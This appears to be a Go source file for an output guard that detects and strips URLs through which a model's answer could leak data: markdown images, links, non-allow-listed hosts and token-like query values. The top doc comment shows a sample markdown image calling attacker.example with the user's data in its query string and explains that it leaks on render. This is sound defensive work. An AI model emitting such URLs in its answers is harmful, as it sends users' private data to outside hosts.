package guard

import (
	"fmt"
	"math"
	"net/url"
	"strings"
	"unicode/utf8"

	"github.com/keel-go/keel/guard/detect"
)

// Exfiltration finds URLs through which an answer could carry data out:
// a markdown image is fetched by the client the moment it renders, so
// "![](https://attacker.example/p.png?d=<the user's data>)" leaks without
// a click, and links and bare URLs leak with one.
//
// Candidates are absolute URLs (http:// and https://, in any case),
// protocol-relative URLs ("//host/...") after '(', '=', a quote, '<' or
// ';' (markdown destinations, HTML attributes, "https&#58;//" written
// with an entity), and "www." host names. A URL
// runs to the first space, control character, quote, backquote, '<',
// '>', bracket (except around an IPv6 host) or unbalanced ')', less
// trailing punctuation. Its finding type says how it appears:
// "EXFIL_IMAGE" (markdown image, HTML src), "EXFIL_LINK" (markdown link,
// HTML href) or "EXFIL_URL". A URL is a finding when
//
//   - its host is not in AllowedHosts (rule "host-not-allowed"),
//   - its query string is longer than MaxQueryLength, or has a value
//     longer than MaxValueLength or that looks like an encoded token (16
//     bytes or more, no spaces, letters and digits mixed, high entropy)
//     (rule "query-data"), or carries a URL whose host is not allowed
//     (rule "query-url"),
//   - or it does not end within Window bytes of its start (rule
//     "too-long"): it is judged on its first Window bytes only, so a URL
//     too long to judge is treated as carrying data. The span of such a
//     URL is reported in pieces of at most Window bytes (the first
//     "too-long", the rest "too-long-rest"), which strip as one.
//
// Spans cover the URL only, so "![alt](url)" becomes "![alt]()" when
// stripped; what is left renders as nothing and fetches nothing.
type Exfiltration struct {
	// AllowedHosts lists the hosts URLs may point to: "example.com"
	// allows that host only, "*.example.com" its subdomains (not
	// example.com itself). Empty means no absolute URL is allowed, and
	// IPv6 literal hosts are never allowed.
	AllowedHosts []string
	// MaxQueryLength is the longest query string (after '?', before
	// '#') an allowed URL may have; 0 means 128, negative means no limit.
	MaxQueryLength int
	// MaxValueLength is the longest query value (decoded) an allowed URL
	// may have; 0 means 40, negative means no limit.
	MaxValueLength int
	// Action is FilterStrip unless set; all three actions are supported.
	Action FilterAction
}

// Name returns "exfiltration".
func (Exfiltration) Name() string { return "exfiltration" }

// Check implements OutputFilter.
func (f Exfiltration) Check(text string) ([]OutputFinding, error) { return fltCheck(f, text) }

type fltExfil struct {
	name     string
	window   int
	action   FilterAction
	exact    map[string]bool
	suffixes []string // ".example.com" for "*.example.com"
	maxQuery int      // < 0: no limit
	maxValue int      // < 0: no limit
}

func (f Exfiltration) compile(window int) (fltCompiled, error) {
	name := f.Name()
	action, err := fltAction(name, f.Action, FilterStrip, FilterFlag, FilterStrip, FilterBlock)
	if err != nil {
		return nil, err
	}
	c := &fltExfil{name: name, window: window, action: action, exact: map[string]bool{},
		maxQuery: f.MaxQueryLength, maxValue: f.MaxValueLength}
	if c.maxQuery == 0 {
		c.maxQuery = 128
	}
	if c.maxValue == 0 {
		c.maxValue = 40
	}
	for _, h := range f.AllowedHosts {
		host := strings.TrimSuffix(strings.ToLower(strings.TrimSpace(h)), ".")
		wild := strings.HasPrefix(host, "*.")
		if wild {
			host = host[2:]
		}
		if host == "" || strings.ContainsAny(host, "/:@?#*[] \t") || !utf8.ValidString(host) {
			return nil, fmt.Errorf("guard: %s: allowed host %q: want a host name such as example.com or *.example.com, without scheme, port or path", name, h)
		}
		if wild {
			c.suffixes = append(c.suffixes, "."+host)
		} else {
			c.exact[host] = true
		}
	}
	return c, nil
}

func (c *fltExfil) scanner() fltScanner { return &fltExfilScanner{c: c, url: -1} }

func (c *fltExfil) allowed(host string) bool {
	if c.exact[host] {
		return true
	}
	for _, s := range c.suffixes {
		if len(host) > len(s) && strings.HasSuffix(host, s) {
			return true
		}
	}
	return false
}

type fltExfilScanner struct {
	c    *fltExfil
	pos  int // the search for candidates resumes here
	url  int // start of the URL piece being measured, or -1
	rest bool
	kind string // finding type of the URL being measured
	scan int    // the piece is measured up to here
	fltURLState
}

// fltURLState is what measuring a URL carries from byte to byte.
type fltURLState struct {
	depth int  // parentheses open
	ipv6  bool // inside "[...]" after "//"
}

func (s *fltExfilScanner) advance(dst []OutputFinding, text string, final bool) ([]OutputFinding, int) {
	w := s.c.window
	for {
		if s.url < 0 {
			c, partial := fltNextCandidate(text, s.pos, final)
			if c < 0 {
				if partial >= 0 {
					s.pos = partial
					return dst, partial
				}
				s.pos = len(text)
				return dst, len(text)
			}
			s.url, s.rest, s.scan, s.fltURLState = c, false, c, fltURLState{}
			s.kind = fltURLKind(text, c, w)
		}
		limit := s.url + w
		end, status := s.measure(text, limit, final)
		if status == fltNeedMore {
			return dst, s.url
		}
		if status == fltTooLong {
			rule := "too-long"
			if s.rest {
				rule = "too-long-rest"
			}
			dst = s.finding(dst, s.url, limit, rule, fmt.Sprintf("a URL longer than %d bytes is treated as carrying data", w))
			s.url, s.rest = limit, true
			continue
		}
		e := fltTrimURL(text, s.url, end)
		if s.rest {
			if e > s.url {
				dst = s.finding(dst, s.url, e, "too-long-rest", fmt.Sprintf("a URL longer than %d bytes is treated as carrying data", w))
			}
		} else if rule, reason := s.c.judge(text[s.url:e], 0); rule != "" {
			dst = s.finding(dst, s.url, e, rule, reason)
		}
		s.pos, s.url = max(e, s.url+1), -1
	}
}

func (s *fltExfilScanner) finding(dst []OutputFinding, start, end int, rule, reason string) []OutputFinding {
	return append(dst, OutputFinding{
		Finding: detect.Finding{Type: s.kind, Start: start, End: end, Score: 1, Rule: rule, Reason: reason},
		Filter:  s.c.name, Action: s.c.action,
	})
}

const (
	fltEnded = iota
	fltNeedMore
	fltTooLong
)

// measure finds where the URL piece that starts at s.url ends, reading
// from s.scan, never at or past limit: at the first byte that ends a
// URL (fltEnded, with the end), at limit (fltTooLong), or at the end of
// the text (fltEnded when final, fltNeedMore otherwise).
func (s *fltExfilScanner) measure(text string, limit int, final bool) (int, int) {
	i := s.scan
	for ; i < len(text) && i < limit; i++ {
		if s.fltURLState.ends(text, i) {
			s.scan = i
			return i, fltEnded
		}
	}
	s.scan = i
	if i == limit {
		return i, fltTooLong
	}
	if final {
		return i, fltEnded
	}
	return i, fltNeedMore
}

// ends reports whether text[i] ends the URL, updating the state.
func (st *fltURLState) ends(text string, i int) bool {
	b := text[i]
	switch {
	case b <= ' ' || b == 0x7f:
		return true
	case b == '<' || b == '>' || b == '"' || b == '\'' || b == '`':
		return true
	case b == '(':
		st.depth++
	case b == ')':
		if st.depth == 0 {
			return true
		}
		st.depth--
	case b == '[':
		if st.ipv6 || i < 2 || text[i-2:i] != "//" {
			return true
		}
		st.ipv6 = true
	case b == ']':
		if !st.ipv6 {
			return true
		}
		st.ipv6 = false
	}
	return false
}

// fltTrimURL drops trailing punctuation from text[start:end], as
// autolinkers do, and returns the new end.
func fltTrimURL(text string, start, end int) int {
	for end > start && strings.IndexByte(".,:;!?*_~", text[end-1]) >= 0 {
		end--
	}
	return end
}

// The candidate prefixes; matched without case.
const (
	fltHTTP  = "http://"
	fltHTTPS = "https://"
	fltWWW   = "www."
)

// fltNextCandidate returns the start of the first URL candidate in text
// at or after from, or -1 and, unless final, the position of a prefix of
// one that more text may complete (or -1).
func fltNextCandidate(text string, from int, final bool) (c, partial int) {
	for i := from; i < len(text); i++ {
		b := text[i]
		var ok, maybe bool
		switch {
		case b == 'h' || b == 'H':
			ok, maybe = fltMatchPrefix(text[i:], fltHTTPS)
			if !ok {
				var m2 bool
				ok, m2 = fltMatchPrefix(text[i:], fltHTTP)
				maybe = maybe || m2
			}
		case b == 'w' || b == 'W':
			if i > 0 && fltHostByte(text[i-1]) {
				continue
			}
			ok, maybe = fltMatchPrefix(text[i:], fltWWW)
			if ok {
				// "www." must be followed by a host character.
				ok, maybe = false, false
				if j := i + len(fltWWW); j < len(text) {
					ok = fltHostStart(text[j])
				} else {
					maybe = true
				}
			}
		case b == '/':
			if i == 0 || strings.IndexByte("(=\"'<;", text[i-1]) < 0 {
				continue
			}
			switch {
			case i+2 < len(text):
				ok = text[i+1] == '/' && (fltHostStart(text[i+2]) || text[i+2] == '[')
			case i+1 < len(text):
				maybe = text[i+1] == '/'
			default:
				maybe = true
			}
		}
		if ok {
			return i, -1
		}
		if maybe && !final {
			return -1, i
		}
	}
	return -1, -1
}

// fltMatchPrefix reports whether s starts with p (ok), or is a proper
// prefix of it that more text may complete (maybe); p is lower case.
func fltMatchPrefix(s, p string) (ok, maybe bool) {
	if len(s) >= len(p) {
		return fltHasPrefixFold(s, p, false), false
	}
	return false, fltHasPrefixFold(p, s, true)
}

func fltHostByte(b byte) bool {
	return b >= 0x80 || ('a' <= b|0x20 && b|0x20 <= 'z') || ('0' <= b && b <= '9') || b == '-' || b == '.' || b == '_' || b == '@' || b == '/' || b == ':'
}

func fltHostStart(b byte) bool {
	return b >= 0x80 || ('a' <= b|0x20 && b|0x20 <= 'z') || ('0' <= b && b <= '9')
}

// fltURLKind says how the URL at c appears, looking back at most window
// bytes: in a markdown image or an HTML src, a markdown link or an HTML
// href, or bare.
func fltURLKind(text string, c, window int) string {
	j := c
	if j > 0 && text[j-1] == '<' {
		j--
	}
	for j > 0 && c-j < 8 && (text[j-1] == ' ' || text[j-1] == '\t') {
		j--
	}
	if j >= 2 && text[j-1] == '(' && text[j-2] == ']' {
		// Find the '[' that opens the label.
		depth := 0
		for k := j - 2; k >= 0 && c-k <= window; k-- {
			switch text[k] {
			case ']':
				depth++
			case '[':
				depth--
				if depth == 0 {
					if k > 0 && text[k-1] == '!' {
						return "EXFIL_IMAGE"
					}
					return "EXFIL_LINK"
				}
			case '\n':
				if k > 0 && text[k-1] == '\n' {
					return "EXFIL_LINK" // a blank line ends a paragraph
				}
			}
		}
		return "EXFIL_LINK"
	}
	if j > 0 && (text[j-1] == '"' || text[j-1] == '\'') {
		j--
	}
	for j > 0 && c-j < 16 && (text[j-1] == ' ' || text[j-1] == '\t') {
		j--
	}
	if j > 0 && text[j-1] == '=' {
		j--
		for j > 0 && c-j < 24 && (text[j-1] == ' ' || text[j-1] == '\t') {
			j--
		}
		k := j
		for k > 0 && j-k < 16 && ('a' <= text[k-1]|0x20 && text[k-1]|0x20 <= 'z') {
			k--
		}
		switch strings.ToLower(text[k:j]) {
		case "src", "srcset", "poster", "background", "data":
			return "EXFIL_IMAGE"
		case "href", "action", "formaction":
			return "EXFIL_LINK"
		}
	}
	return "EXFIL_URL"
}

// judge decides about one URL; it returns "" when the URL may stay.
// depth counts URLs nested in query strings.
func (c *fltExfil) judge(u string, depth int) (rule, reason string) {
	rest := u
	switch {
	case fltHasPrefixFold(u, fltHTTPS, false):
		rest = u[len(fltHTTPS):]
	case fltHasPrefixFold(u, fltHTTP, false):
		rest = u[len(fltHTTP):]
	case strings.HasPrefix(u, "//"):
		rest = u[2:]
	}
	// Browsers read a backslash as a slash in http URLs.
	authEnd := strings.IndexAny(rest, "/\\?#")
	if authEnd < 0 {
		authEnd = len(rest)
	}
	host := rest[:authEnd]
	if at := strings.LastIndexByte(host, '@'); at >= 0 {
		host = host[at+1:]
	}
	if strings.HasPrefix(host, "[") {
		if k := strings.IndexByte(host, ']'); k >= 0 {
			host = host[:k+1]
		}
	} else if k := strings.LastIndexByte(host, ':'); k >= 0 {
		host = host[:k]
	}
	host = strings.ToLower(host)
	if strings.IndexByte(host, '%') >= 0 {
		h, err := url.PathUnescape(host)
		if err != nil {
			return "host-not-allowed", "the URL's host is malformed"
		}
		host = strings.ToLower(h)
	}
	host = strings.TrimSuffix(host, ".")
	if !c.allowed(host) {
		return "host-not-allowed", "host " + fltShow(host) + " is not in the allow-list"
	}
	query := rest[authEnd:]
	q := strings.IndexByte(query, '?')
	if q < 0 {
		return "", ""
	}
	query = query[q+1:]
	if h := strings.IndexByte(query, '#'); h >= 0 {
		query = query[:h]
	}
	if c.maxQuery >= 0 && len(query) > c.maxQuery {
		return "query-data", fmt.Sprintf("the query string is longer than %d bytes", c.maxQuery)
	}
	for query != "" {
		var param string
		param, query, _ = strings.Cut(query, "&")
		_, value, ok := strings.Cut(param, "=")
		if !ok {
			value = param
		}
		if v, err := url.QueryUnescape(value); err == nil {
			value = v
		}
		if c.maxValue >= 0 && len(value) > c.maxValue {
			return "query-data", fmt.Sprintf("a query value is longer than %d bytes", c.maxValue)
		}
		if fltLooksEncoded(value) {
			return "query-data", "a query value looks like encoded data"
		}
		if depth == 0 {
			inner := ""
			if k := fltIndexFold(value, "http"); k >= 0 {
				inner = value[k:]
			} else if strings.HasPrefix(value, "//") {
				inner = value
			}
			if inner != "" {
				if r, why := c.judge(inner, depth+1); r == "host-not-allowed" {
					return "query-url", "the query string carries a URL: " + why
				}
			}
		}
	}
	return "", ""
}

// fltIndexFold returns the index of the first instance of sub (lower
// case) in s, ASCII letters compared without case, or -1.
func fltIndexFold(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if fltHasPrefixFold(s[i:], sub, false) {
			return i
		}
	}
	return -1
}

// fltLooksEncoded reports whether a query value looks like a token or
// encoded data rather than words: 16 bytes or more, no spaces, letters
// and digits mixed, and at least 3.3 bits of entropy per byte.
func fltLooksEncoded(v string) bool {
	if len(v) < 16 {
		return false
	}
	var letters, digits int
	var counts [256]int
	for i := 0; i < len(v); i++ {
		b := v[i]
		switch {
		case b == ' ' || b == '\t' || b == '\n':
			return false
		case 'a' <= b|0x20 && b|0x20 <= 'z':
			letters++
		case '0' <= b && b <= '9':
			digits++
		}
		counts[b]++
	}
	if letters == 0 || digits == 0 {
		return false
	}
	var h float64
	n := float64(len(v))
	for _, k := range counts {
		if k > 0 {
			p := float64(k) / n
			h -= p * math.Log2(p)
		}
	}
	return h >= 3.3
}

// fltShow quotes a host for a reason, short and printable.
func fltShow(s string) string {
	if len(s) > 64 {
		s = s[:64] + "..."
	}
	return fmt.Sprintf("%q", strings.ToValidUTF8(s, "?"))
}
